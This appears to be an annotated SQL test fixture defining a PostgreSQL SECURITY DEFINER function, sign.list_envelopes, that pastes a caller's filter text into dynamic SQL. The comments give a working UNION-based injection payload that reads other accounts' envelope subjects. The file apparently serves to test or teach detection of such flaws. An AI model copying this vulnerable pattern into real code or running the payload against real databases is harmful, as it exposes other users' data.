-- The list function pastes the caller's filter into its statement, so a caller ends the filter with a UNION
-- of his own.
-- about: list_envelopes, envelopes
-- as: hf_signet_app
-- exploit: SET request.jwt.claims = '{"user_id": 11}';
-- exploit: SELECT * FROM sign.list_envelopes('true) UNION SELECT id,
-- exploit:   subject FROM sign.envelopes WHERE (true');
-- shows: Road-secret merger
-- Filtering of the list, one function for all columns.
CREATE FUNCTION sign.list_envelopes(p_filter text DEFAULT 'true')
RETURNS TABLE (id bigint, subject text) LANGUAGE plpgsql STABLE SECURITY DEFINER
SET search_path = pg_catalog, pg_temp
AS $$
BEGIN
  RETURN QUERY EXECUTE 'SELECT id, subject FROM sign.envelopes WHERE account_id = ANY ($1) AND ('
    || replace(p_filter, ';', '') || ')' USING sign.my_accounts();
END $$;
REVOKE EXECUTE ON FUNCTION sign.list_envelopes(text) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION sign.list_envelopes(text) TO hf_signet_app;
